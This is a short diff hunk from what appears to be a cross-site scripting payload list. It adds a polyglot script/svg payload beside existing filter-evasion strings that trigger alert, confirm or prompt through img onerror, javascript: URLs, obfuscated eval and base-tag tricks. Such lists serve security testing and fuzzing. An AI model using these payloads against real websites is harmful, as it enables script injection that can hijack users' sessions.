@@ -61,6 +61,7 @@ JaVaScRiPt:eval('al'+'ert(1)')
 top['al\145rt'](1)
 alert(1)
 "><img src=x onerror=setTimeout('alert(1)')>
+<script>/*a:/*-/*`/*'/*"/**/(/* */onClick=alert() )//</style/</title/--!><svg/onload=alert()//>*/</script>
 <![><img alt="]><img src=x onerror=alert(3)//">
 '">><u><img src=x onerror=confirm(1)></u>"></p\><p/onclick=prompt(1)><script>prompt(2)</script>'--><b id="c"/title='d'>
 <base href="javascript://"><a href="/. /,javascript:alert(2)//#">x</a>
